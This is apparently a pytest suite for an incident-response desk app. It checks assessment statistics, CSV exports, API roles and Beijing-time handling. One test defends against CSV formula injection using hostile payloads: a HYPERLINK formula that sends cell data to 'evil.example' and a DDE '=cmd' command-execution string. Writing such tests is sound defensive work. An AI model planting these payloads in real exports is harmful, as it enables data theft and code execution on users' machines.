"""Assessment statistics on a constructed set of incidents whose outcomes are known by hand.

The rows are written straight into SQL (the read models the workflow would have produced), so every
rate, median, P90 and CSV cell below can be checked with a pencil.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from desk import stats
from desk.db import init_db, session_scope
from desk.models import Milestone
from tests.helpers import DUE_HOURS, add_incident, shanghai  # noqa: F401 (re-used by other tests)

UTC = UTC
H = 3600
NOW = datetime(2026, 4, 1, 0, 0, tzinfo=UTC)  # 2026-04-01 08:00 Beijing time
Q1 = stats.Period(date(2026, 1, 1), date(2026, 3, 31))
@pytest.fixture
def known(database_url):
    """Seven incidents in Q1 2026 with hand-computed outcomes, plus four that must not count."""
    init_db(database_url)
    with session_scope(database_url) as s:
        # 巴州区 (bazhou): A, B, C, D, H
        a = add_incident(s, party="bazhou", level="III", detected_at=shanghai(2026, 1, 10, 9),  # A
                     milestones={"acknowledge": ("met", 0.5), "first_release": ("met", 10)})
        add_incident(s, party="bazhou", level="III", detected_at=shanghai(2026, 1, 20, 8),  # B
                     milestones={"acknowledge": ("met_late", 2), "first_release": ("met_late", 50)})
        add_incident(s, party="bazhou", level="I", detected_at=shanghai(2026, 2, 5, 8),  # C: 1 h is still on time
                     milestones={"acknowledge": ("met", 1), "first_release": ("met", 4),
                                 "press_conference": ("met", 20)})
        add_incident(s, party="bazhou", level="IV", detected_at=shanghai(2026, 3, 1, 8), status="open",  # D
                     milestones={"acknowledge": "overdue", "first_release": "pending"})  # release due 3 Mar: overdue
        add_incident(s, party="bazhou", level="IV", detected_at=shanghai(2026, 1, 1, 0),  # H: first second of Q1
                     milestones={"acknowledge": ("met", 0.1), "first_release": ("met", 1)})
        # 恩阳区 (enyang): E, F
        add_incident(s, party="enyang", level="II", detected_at=shanghai(2026, 2, 14, 8),  # E
                     milestones={"acknowledge": "waived", "first_release": ("met", 30)})
        add_incident(s, party="enyang", level="I", detected_at=shanghai(2026, 3, 31, 23), status="open",  # F
                     milestones={"acknowledge": ("met", 0.25), "first_release": "pending",
                                 "press_conference": "pending"})
        # Not counted: the last second of 2025, the first of Q2, a drill, a follow-up clock.
        add_incident(s, party="bazhou", level="IV", detected_at=shanghai(2025, 12, 31, 23, 59),
                     milestones={"acknowledge": "overdue"})
        add_incident(s, party="bazhou", level="IV", detected_at=shanghai(2026, 3, 31, 23, 59) + timedelta(minutes=1),
                     milestones={"acknowledge": "overdue"})
        add_incident(s, party="bazhou", level="I", detected_at=shanghai(2026, 1, 15, 8), drill=True,
                     milestones={"acknowledge": "overdue", "first_release": "overdue", "press_conference": "overdue"})
        s.add(Milestone(incident_id=a.id, key="follow_up", due_at=shanghai(2026, 1, 12), state="overdue"))
        s.commit()
    return database_url


def report(url, **kw):
    with session_scope(url) as s:
        return stats.assessment(s, Q1, now=NOW, **kw)


def party(rep, code):
    return next(p for p in rep["parties"] if p["party"] == code)


def test_per_party_and_milestone_counts_and_rates(known):
    rep = report(known)
    bazhou = party(rep, "bazhou")
    assert bazhou["figures"]["incidents"] == 5
    ack = bazhou["milestones"]["acknowledge"]
    assert {k: ack[k] for k in ("incidents", "met", "met_late", "overdue", "waived", "pending", "due")} == {
        "incidents": 5, "met": 3, "met_late": 1, "overdue": 1, "waived": 0, "pending": 0, "due": 5}
    assert (ack["on_time_rate"], ack["response_rate"]) == (0.6, 0.8)
    release = bazhou["milestones"]["first_release"]
    # D's release is still "pending" in the table, but its deadline passed on 3 March: it counts as overdue.
    assert (release["met"], release["met_late"], release["overdue"]) == (3, 1, 1)
    assert bazhou["milestones"]["press_conference"]["on_time_rate"] == 1.0
    assert bazhou["figures"]["on_time_rate"] == round(7 / 11, 4) == 0.6364
    assert bazhou["figures"]["response_rate"] == round(9 / 11, 4) == 0.8182

    enyang = party(rep, "enyang")
    assert enyang["figures"]["incidents"] == 2
    assert enyang["milestones"]["acknowledge"]["waived"] == 1
    assert enyang["milestones"]["acknowledge"]["on_time_rate"] == 1.0  # waived is left out of the rate
    assert enyang["milestones"]["first_release"]["pending"] == 1  # F: due 2 April, not yet counted
    press = enyang["milestones"]["press_conference"]
    assert (press["pending"], press["due"], press["on_time_rate"]) == (1, 0, None)  # nothing due: no rate


def test_overall_period_edges_and_drills_excluded(known):
    rep = report(known)
    overall = rep["overall"]
    assert overall["incidents"] == 7  # not the 2025 one, not the 1 April one, not the drill
    assert (overall["met"], overall["met_late"], overall["overdue"], overall["waived"], overall["pending"]) == \
        (9, 2, 2, 1, 2)
    assert (overall["on_time_rate"], overall["response_rate"]) == (round(9 / 13, 4), round(11 / 13, 4))
    by_key = {m["key"]: m for m in rep["milestones"]}
    assert by_key["acknowledge"]["incidents"] == 7
    assert by_key["press_conference"]["incidents"] == 2  # only level I incidents have one (C and F)


def test_medians_and_p90_interpolate_like_excel(known):
    rep = report(known)
    bazhou = party(rep, "bazhou")
    # acknowledgement times 0.1, 0.5, 1, 2 h: median (0.5+1)/2 = 0.75 h; P90 rank 2.7: 1 + 0.7 × 1 = 1.7 h
    assert bazhou["acknowledge"] == {"median_seconds": 0.75 * H, "p90_seconds": 1.7 * H, "timed": 4}
    # first release 1, 4, 10, 50 h: median 7 h; P90: 10 + 0.7 × 40 = 38 h
    assert bazhou["first_release"] == {"median_seconds": 7 * H, "p90_seconds": 38 * H, "timed": 4}
    enyang = party(rep, "enyang")
    assert enyang["acknowledge"]["median_seconds"] == 0.25 * H
    assert enyang["first_release"] == {"median_seconds": 30 * H, "p90_seconds": 30 * H, "timed": 1}
    release = next(m for m in rep["milestones"] if m["key"] == "first_release")
    assert release["median_seconds"] == 10 * H  # 1, 4, 10, 30, 50


def test_press_conference_compliance_monthly_trend_and_distribution(known):
    rep = report(known)
    press = rep["press_conference"]
    assert (press["met"], press["pending"], press["compliance_rate"]) == (1, 1, 1.0)
    monthly = {m["month"]: m for m in rep["monthly"]}
    assert list(monthly) == ["2026-01", "2026-02", "2026-03"]
    assert monthly["2026-01"]["incidents"] == 3  # A, B and H (1 January 00:00 Beijing time)
    assert (monthly["2026-01"]["on_time_rate"], monthly["2026-01"]["response_rate"]) == (0.6667, 1.0)
    assert (monthly["2026-02"]["incidents"], monthly["2026-02"]["on_time_rate"]) == (2, 1.0)
    assert (monthly["2026-03"]["incidents"], monthly["2026-03"]["on_time_rate"]) == (2, 0.3333)
    assert [b["count"] for b in rep["release_distribution"]] == [2, 1, 1, 1]  # 1,4 | 10 | 30 | 50 h


def test_one_party_only_and_definitions_for_every_figure(known):
    rep = report(known, party="enyang")
    assert [p["party"] for p in rep["parties"]] == ["enyang"]
    assert rep["overall"]["incidents"] == 2
    keys = {d["key"] for d in rep["definitions"]}
    assert {"on_time_rate", "response_rate", "median_hours", "p90_hours", "press_conference", "scope"} <= keys
    assert all(d["text"] for d in rep["definitions"])


def parse_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_summary_csv_rows(known):
    text = "".join(stats.to_csv(stats.summary_rows(report(known))))
    rows = parse_csv(text)
    assert rows[0] == stats.SUMMARY_HEADER
    assert ["巴州区人民政府", "bazhou", "责任单位签收", "5", "3", "1", "1", "0", "0", "60.0", "80.0", "0.75", "1.70"] in rows
    assert ["巴州区人民政府", "bazhou", "发布权威信息", "5", "3", "1", "1", "0", "0", "60.0", "80.0", "7.00", "38.00"] in rows
    assert ["巴州区人民政府", "bazhou", "全部时限合计", "5", "7", "2", "2", "0", "0", "63.6", "81.8", "", ""] in rows
    assert ["恩阳区人民政府", "enyang", "举行新闻发布会", "1", "0", "0", "0", "0", "1", "", "", "", ""] in rows
    assert ["全部单位", "", "全部时限合计", "7", "9", "2", "2", "1", "2", "69.2", "84.6", "", ""] in rows
    assert ["统计期间", "2026-01-01 至 2026-03-31（北京时间）"] in rows
    assert "\r\n" in text


def test_detail_csv_rows(known):
    with session_scope(known) as s:
        rows = parse_csv("".join(stats.to_csv(stats.detail_rows(s, Q1, now=NOW))))
    assert rows[0] == stats.DETAIL_HEADER
    assert len(rows) == 1 + 16  # 5 + 2 incidents; acknowledgement, release and (level I) press conference
    first = rows[1]  # H, the first second of the period
    assert first[2:10] == ["巴州区人民政府", "bazhou", "一般（IV）", "事故灾难", "2026-01-01 00:00:00", "责任单位签收",
                           "2026-01-01 01:00:00", "按时完成"]
    assert first[10:12] == ["2026-01-01 00:06:00", "0.10"]
    assert rows[2][7:12] == ["发布权威信息", "2026-01-03 00:00:00", "按时完成", "2026-01-01 01:00:00", "1.00"]
    overdue_release = [r for r in rows if r[6] == "2026-03-01 08:00:00" and r[7] == "发布权威信息"]
    assert overdue_release[0][9] == "已超时"
    assert [r[12] for r in rows if r[9] == "已豁免"] == ["事件已由上级统一发布"]


def test_detail_csv_local_times_before_1991_follow_the_daylight_saving_of_the_time(database_url):
    """China kept summer time 1986-1991 (UTC+9): the CSV shows the wall clock of the day, not always UTC+8."""
    init_db(database_url)
    with session_scope(database_url) as s:
        add_incident(s, party="bazhou", level="IV", detected_at=datetime(1990, 7, 1, 0, 0, tzinfo=UTC),  # summer
                     milestones={"acknowledge": ("met", 0.5)})
        add_incident(s, party="bazhou", level="IV", detected_at=datetime(1990, 12, 1, 0, 0, tzinfo=UTC),  # winter
                     milestones={"acknowledge": ("met", 0.5)})
        # the last change: 1991-09-15 02:00 summer time became 01:00; detected before it, due after it
        add_incident(s, party="bazhou", level="IV", detected_at=datetime(1991, 9, 14, 16, 30, tzinfo=UTC),
                     milestones={"acknowledge": ("met", 0.25)})
    with session_scope(database_url) as s:
        period = stats.Period(date(1990, 1, 1), date(1991, 12, 31))
        rows = parse_csv("".join(stats.to_csv(stats.detail_rows(s, period, now=NOW))))
    detected, due, met = 6, 8, 10  # the three 北京时间 columns
    assert [rows[0][detected], rows[0][due], rows[0][met]] == ["发现时间(北京时间)", "截止时间(北京时间)", "完成时间(北京时间)"]
    assert [(r[detected], r[due], r[met]) for r in rows[1:]] == [
        ("1990-07-01 09:00:00", "1990-07-01 10:00:00", "1990-07-01 09:30:00"),
        ("1990-12-01 08:00:00", "1990-12-01 09:00:00", "1990-12-01 08:30:00"),
        ("1991-09-15 01:30:00", "1991-09-15 01:30:00", "1991-09-15 01:45:00")]


# --- the HTTP side: roles, filters, CSV headers --------------------------------------------------------


async def test_stats_api_for_supervisors_only(desk):
    for who, code in (("super", 200), ("admin", 200), ("duty", 403), ("bazhou", 403)):
        r = await desk.http.get("/api/stats", headers=desk.auth(who))
        assert r.status_code == code, (who, r.text)
        r = await desk.http.get("/api/stats.csv", headers=desk.auth(who))
        assert r.status_code == code, (who, r.text)
    assert (await desk.http.get("/api/stats")).status_code == 401


async def test_stats_api_period_party_and_csv(desk):
    with session_scope(desk.database_url) as s:
        add_incident(s, party="enyang", level="I", detected_at=shanghai(2026, 2, 14, 8),
                     milestones={"acknowledge": ("met", 0.5), "first_release": ("met_late", 60),
                                 "press_conference": ("met", 12)})
        add_incident(s, party="bazhou", level="III", detected_at=shanghai(2026, 2, 20, 8),
                     milestones={"acknowledge": ("met", 0.2), "first_release": ("met", 2)})
    params = {"from": "2026-02-01", "to": "2026-02-28"}
    r = await desk.http.get("/api/stats", params={**params, "party": "enyang"}, headers=desk.auth("super"))
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["period"] == {"from": "2026-02-01", "to": "2026-02-28", "timezone": "Asia/Shanghai"}
    assert [p["party"] for p in body["parties"]] == ["enyang"]
    assert body["parties"][0]["milestones"]["first_release"]["met_late"] == 1
    assert body["press_conference"]["compliance_rate"] == 1.0

    r = await desk.http.get("/api/stats.csv", params=params, headers=desk.auth("super"))
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "assessment_2026-02-01_2026-02-28.csv" in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = parse_csv(r.content.decode("utf-8"))
    assert ["全部单位", "", "全部时限合计", "2", "4", "1", "0", "0", "0", "80.0", "100.0", "", ""] in rows

    r = await desk.http.get("/api/stats.csv", params={**params, "detail": "true"}, headers=desk.auth("admin"))
    rows = parse_csv(r.content.decode("utf-8"))
    assert len(rows) == 1 + 5 and rows[0][0] == "事件编号"

    r = await desk.http.get("/api/stats", params={"from": "2026-03-01", "to": "2026-02-01"}, headers=desk.auth("super"))
    assert r.status_code == 422 and "结束日期不能早于开始日期" in r.text
    r = await desk.http.get("/api/stats", params={"party": "nowhere"}, headers=desk.auth("super"))
    assert r.status_code == 422 and "未知的责任单位" in r.text


# --- CSV formula injection: what people typed never runs as a formula in Excel --------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1",
           "＝1+1", "＋1", "－1", "＠SUM(A1)"]


async def test_formulas_typed_into_titles_party_names_and_reasons_are_neutralised_in_both_exports(desk):
    from desk.models import Party

    with session_scope(desk.database_url) as s:
        s.add(Party(code="evil", name='=cmd|" /C calc"!A0', kind="department"))
        s.commit()
        for title in HOSTILE:
            add_incident(s, party="bazhou", level="IV", detected_at=shanghai(2026, 2, 10, 8), title=title,
                         milestones={"acknowledge": "waived"})
        add_incident(s, party="evil", level="IV", detected_at=shanghai(2026, 2, 11, 8), title="正常标题",
                     milestones={"acknowledge": ("met", 0.5)})
    params = {"from": "2026-02-01", "to": "2026-02-28"}

    r = await desk.http.get("/api/stats.csv", params={**params, "detail": "true"}, headers=desk.auth("super"))
    rows = parse_csv(r.content.decode("utf-8"))
    titles = [row[1] for row in rows[1:]]
    assert sorted(titles) == sorted(["'" + t for t in HOSTILE] + ["正常标题"])
    assert "'=cmd|\" /C calc\"!A0" in [row[2] for row in rows[1:]]  # the party's name
    assert {row[12] for row in rows[1:] if row[9] == "已豁免"} == {"事件已由上级统一发布"}  # plain text untouched

    r = await desk.http.get("/api/stats.csv", params=params, headers=desk.auth("super"))
    rows = parse_csv(r.content.decode("utf-8"))
    evil = [row for row in rows if row[1:2] == ["evil"]]
    assert evil and all(row[0] == "'=cmd|\" /C calc\"!A0" for row in evil)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in stats.FORMULA_START and not re.fullmatch(r"-?\d+(\.\d+)?", c)], \
        "a cell of the summary starts like a formula"


def test_numbers_and_ordinary_text_are_left_as_they_are():
    assert [stats.safe_cell(v) for v in (3, 1.5, "-0.50", "-12", "", "巴州区", "a=b", " =1")] == \
        [3, 1.5, "-0.50", "-12", "", "巴州区", "a=b", " =1"]


def test_each_party_counts_its_own_acknowledgement_clocks_and_tasks_have_their_own_line(database_url):
    """牵头/配合: a supporting party is assessed on its own acknowledgement, not on the lead's milestones; a task
    counts for the party it was given to, on a line of its own; a drill's count nowhere."""
    from desk.models import IncidentSupport, IncidentTask

    init_db(database_url)
    with session_scope(database_url) as s:
        detected = shanghai(2026, 2, 1, 8)
        for drill in (False, True):
            i = add_incident(s, party="bazhou", level="III", detected_at=detected, drill=drill,
                             milestones={"acknowledge": ("met", 0.5), "first_release": ("met", 10)})
            s.add(IncidentSupport(incident_id=i.id, party_code="dept-sthjj", n=1, added_at=detected,
                                  ack_due_at=detected + timedelta(hours=1), ack_state="met_late",
                                  ack_met_at=detected + timedelta(hours=3)))
            s.add(IncidentSupport(incident_id=i.id, party_code="enyang", n=2, added_at=detected,
                                  ack_due_at=detected + timedelta(hours=1), ack_state="pending"))  # past due: overdue
            for n, (party_code, state) in enumerate((("dept-sthjj", "met"), ("bazhou", "pending")), 1):
                s.add(IncidentTask(incident_id=i.id, n=n, party_code=party_code, text="核实", assigned_at=detected,
                                   due_at=detected + timedelta(hours=4), state=state))
        s.commit()
    rep = report(database_url)
    sthjj, enyang, bazhou = party(rep, "dept-sthjj"), party(rep, "enyang"), party(rep, "bazhou")
    assert set(sthjj["milestones"]) == {"acknowledge", "task"}  # never the lead's release
    assert (sthjj["milestones"]["acknowledge"]["met_late"], sthjj["milestones"]["task"]["met"]) == (1, 1)
    assert enyang["milestones"]["acknowledge"]["overdue"] == 1
    assert bazhou["milestones"]["acknowledge"]["met"] == 1 and bazhou["milestones"]["task"]["overdue"] == 1
    tasks = next(m for m in rep["milestones"] if m["key"] == "task")
    assert (tasks["label"], tasks["incidents"], tasks["met"], tasks["overdue"]) == ("督办事项办结", 2, 1, 1)
    ack = next(m for m in rep["milestones"] if m["key"] == "acknowledge")
    assert (ack["incidents"], ack["met"], ack["met_late"], ack["overdue"]) == (3, 1, 1, 1)
    assert rep["overall"]["incidents"] == 1
    assert any(d["key"] == "shared" for d in rep["definitions"])
